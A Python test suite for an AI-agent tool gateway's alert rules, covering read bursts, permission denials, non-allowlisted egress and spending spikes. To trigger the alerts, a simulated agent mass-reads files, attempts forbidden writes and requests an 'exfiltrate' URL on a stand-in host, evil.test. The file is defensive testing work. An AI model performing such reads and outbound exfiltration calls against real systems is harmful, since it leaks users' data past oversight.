"""Layer 6's alert rules through `palisade serve` and the official Python SDK client: the seed's rules fire at their thresholds, once per storm, reach the audit log, `palisade alerts list` and a webhook, and stay quiet on benign traffic.

The upstreams are fixtures/limits_server.py (`files`: read_file, write_file)
and the built-in `http_request`. A policy forbids writes to `files`, so
each write is a permission denial; `evil.test` is on the tool's list but no
egress rule allows it. The webhook is a loopback receiver reached, like
everything palisade sends, through the egress allowlist (`hooks.test`).
The spend rule's test has `aws` (describe, bill) under a daily budget that
prices each tool, so each call's outcome carries what it cost.
"""

from __future__ import annotations

import http.server
import json
import threading
import time
from pathlib import Path
from typing import Any

import anyio
from mcp.shared.exceptions import MCPError

from layer1 import cli, client, ok, run
from support import PASS_THROUGH, audit_lines, free_port, python_stdio, retry_until, write_config

POLICY = """
@id("all")
permit (principal, action, resource);

@id("no.writes")
forbid (principal, action == Action::"write", resource in Server::"files")
when { context.session.tainted == false };
"""


class Hooks:
    """A loopback webhook receiver that keeps every JSON body posted to it."""

    def __init__(self) -> None:
        self.bodies: list[dict[str, Any]] = []
        hooks = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self) -> None:  # noqa: N802 (the stdlib's name)
                length = int(self.headers.get("Content-Length", "0"))
                hooks.bodies.append(json.loads(self.rfile.read(length)))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *_: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()


def alerts_world(launcher: Any, tmp_path: Path, hooks: Hooks) -> tuple[Any, Path, str]:
    policy = tmp_path / "policy.cedar"
    policy.write_text(POLICY)
    evil = free_port()
    extra = f"""
[authz]
policies = ["{policy}"]

[alerts]
webhook = "http://hooks.test:{hooks.port}/palisade"

[egress]
allow = [{{ host = "hooks.test", port = {hooks.port}, addresses = ["127.0.0.1"] }}]

[egress.hosts]
"hooks.test" = ["127.0.0.1"]
"evil.test" = ["127.0.0.1"]
"""
    upstreams = {
        "files": {**python_stdio("limits_server.py", "files", str(tmp_path / "executed.jsonl")), "effects": {"read_file": "read", "write_file": "write"}},
        "web": {"builtin": "http_request", "allow": [f"http://evil.test:{evil}/"], "effects": {"http_request": "egress"}},
    }
    data_dir = tmp_path / "data"
    pass_through = [s for s in PASS_THROUGH if s != "authorize"]
    config = write_config(tmp_path / "palisade.toml", data_dir=data_dir, upstreams=upstreams, pass_through=pass_through, extra=extra)
    gateway = launcher.gateway({}, data_dir=data_dir, config=config)
    return gateway, config, f"http://evil.test:{evil}/"


def alerts_in(gateway: Any) -> list[dict[str, Any]]:
    return [r for r in audit_lines(gateway.audit_path) if r.get("event") == "alert"]


def test_the_seed_rules_fire_once_each_and_reach_the_log_the_cli_and_the_webhook(launcher, tmp_path):
    hooks = Hooks()
    try:
        gateway, config, evil_url = alerts_world(launcher, tmp_path, hooks)

        async def agent(reads: range, writes: range, egress: bool) -> int:
            denied = 0
            async with client(gateway.url, None) as c:
                for i in reads:
                    await c.call_tool("files__read_file", {"path": f"/r/{i}"})
                for i in writes:
                    try:
                        await c.call_tool("files__write_file", {"path": f"/w/{i}", "content": "x"})
                    except MCPError:
                        denied += 1
                if egress:
                    await c.call_tool("web__http_request", {"url": f"{evil_url}exfiltrate"})
            return denied

        # Benign: reads well under 100, denials under 6: nothing fires.
        assert run(agent, range(0, 60), range(0, 3), False) == 3
        time.sleep(0.5)
        assert alerts_in(gateway) == [], alerts_in(gateway)
        assert "no alerts" in ok(cli(config, "alerts", "list"))
        assert hooks.bodies == []
        outcomes = [r for r in audit_lines(gateway.audit_path) if r.get("event") == "call-outcome"]
        denials = [r for r in outcomes if r["outcome"]["status"] == "denied"]
        assert len(denials) == 3 and all(r["outcome"]["stage"] == "authorize" for r in denials), denials

        # Past each threshold, and well past it: each rule fires once.
        assert run(agent, range(60, 160), range(3, 20), True) == 17
        retry_until(lambda: alerts_in(gateway), lambda a: len(a) >= 3, attempts=100, pause=0.1)
        time.sleep(0.5)  # long enough for a storm's extra alerts to show, if it made any
        fired = alerts_in(gateway)
        by_rule = {a["rule"]: a for a in fired}
        assert sorted(by_rule) == ["egress-not-allowlisted", "file-reads", "permission-denials"], fired
        assert len(fired) == 3, f"a storm became {len(fired)} alerts: {fired}"
        assert by_rule["file-reads"]["severity"] == "high" and by_rule["file-reads"]["count"] == 101, by_rule
        assert by_rule["permission-denials"]["severity"] == "medium" and by_rule["permission-denials"]["count"] == 6
        assert by_rule["egress-not-allowlisted"]["severity"] == "critical"
        assert all(a["principal"] == "anonymous" for a in fired), fired

        listed = json.loads(ok(cli(config, "alerts", "list", "--format", "json")))
        assert sorted(a["rule"] for a in listed if a["event"] == "alert") == sorted(by_rule), listed
        text = ok(cli(config, "alerts", "list"))
        assert "critical  egress-not-allowlisted" in text and "high  file-reads" in text, text

        posted = retry_until(lambda: list(hooks.bodies), lambda b: len(b) >= 3, attempts=100, pause=0.1)[-1]
        assert sorted(b["alert"]["rule"] for b in posted if b["event"] == "alert") == sorted(by_rule), posted
    finally:
        hooks.close()


def test_alert_settings_are_checked_at_load(tmp_path):
    for extra, wanted in [
        ('[alerts.rules.file-reads]\nseverity = "urgent"\n', "`alerts.rules.file-reads.severity`: expected low, medium, high or critical"),
        ('[alerts.rules.mine]\nthreshold = 3\n', "a rule of your own needs `when`"),
        ('[alerts.rules.mine]\nenabled = false\n', "only a built-in rule can be turned off"),
        ('[alerts.rules.file-reads]\nwindow = "0s"\n', "`alerts.rules.file-reads.window`: must be greater than zero"),
        ('[alerts]\nwebhook = "ftp://x"\n', "`alerts.webhook`: expected an http:// or https:// URL"),
        ('[alerts.rules.file-reads]\nthreshhold = 3\n', "`alerts.rules.file-reads.threshhold`: unknown field"),
    ]:
        config = write_config(tmp_path / "p.toml", data_dir=tmp_path / "d", upstreams={}, extra=extra)
        done = cli(config, "check")
        assert done.returncode != 0 and wanted in done.stderr, (extra, done.stderr)

    config = write_config(tmp_path / "p.toml", data_dir=tmp_path / "d", upstreams={}, extra='[alerts.rules.permission-denials]\nenabled = false\n[alerts.rules.file-reads]\nthreshold = 500\n')
    rules = ok(cli(config, "alerts", "rules"))
    assert "permission-denials" not in rules and "file-reads  High  more than 500 in 5m" in rules, rules


def test_spend_above_the_baseline_fires_once_and_steady_spend_does_not(launcher, tmp_path):
    """The seed's fourth rule, on a 2-second window and a 20-second baseline: steady cheap calls for 8 seconds, then a burst of dear ones."""
    extra = """
[limits.budget]
daily_limit_usd = 1000
costs = { "aws/describe" = "0.02", "aws/bill" = "0.50" }

[alerts.rules.spend-above-baseline]
window = "2s"
baseline = "20s"
min_spend = "0.10"
quiet = "1m"
"""
    upstreams = {"aws": {**python_stdio("limits_server.py", "aws", str(tmp_path / "executed.jsonl")), "effects": {"describe": "read", "mutate": "write", "bill": "read"}}}
    data_dir = tmp_path / "data"
    pass_through = [s for s in PASS_THROUGH if s != "limits"]
    config = write_config(tmp_path / "palisade.toml", data_dir=data_dir, upstreams=upstreams, pass_through=pass_through, extra=extra)
    gateway = launcher.gateway({}, data_dir=data_dir, config=config)

    async def steady(seconds: float) -> int:
        # About $0.40 per 2-second window: over the floor, under 3x the average.
        calls = 0
        async with client(gateway.url, None) as c:
            deadline = time.monotonic() + seconds
            while time.monotonic() < deadline:
                await c.call_tool("aws__describe", {"resource": f"r{calls}"})
                calls += 1
                await anyio.sleep(0.1)
        return calls

    async def burst(calls: int) -> None:
        async with client(gateway.url, None) as c:
            for i in range(calls):
                await c.call_tool("aws__bill", {"item": f"b{i}"})

    assert run(steady, 8.0) >= 40
    time.sleep(0.5)
    assert alerts_in(gateway) == [], alerts_in(gateway)
    outcomes = [r for r in audit_lines(gateway.audit_path) if r.get("event") == "call-outcome"]
    assert outcomes and all(r["cost_micros"] == 20_000 for r in outcomes), outcomes[:3]

    run(burst, 8)
    retry_until(lambda: alerts_in(gateway), lambda a: len(a) >= 1, attempts=100, pause=0.1)
    time.sleep(0.5)  # long enough for a storm's extra alerts to show, if it made any
    fired = alerts_in(gateway)
    assert [a["rule"] for a in fired] == ["spend-above-baseline"], fired
    [alert] = fired
    assert alert["severity"] == "high" and alert["principal"] == "anonymous", alert
    assert alert["unit"] == "micro-dollars" and alert["factor"] == 3 and alert["window"] == "2s", alert
    assert alert["count"] > alert["threshold"] >= 3 * alert["average"], alert
    assert "hourly spend above 3× the principal's daily average: `anonymous` spent $" in alert["message"], alert
    bills = [r for r in audit_lines(gateway.audit_path) if r.get("event") == "call-outcome" and r["name"] == "bill"]
    assert len(bills) == 8 and all(r["cost_micros"] == 500_000 for r in bills), bills
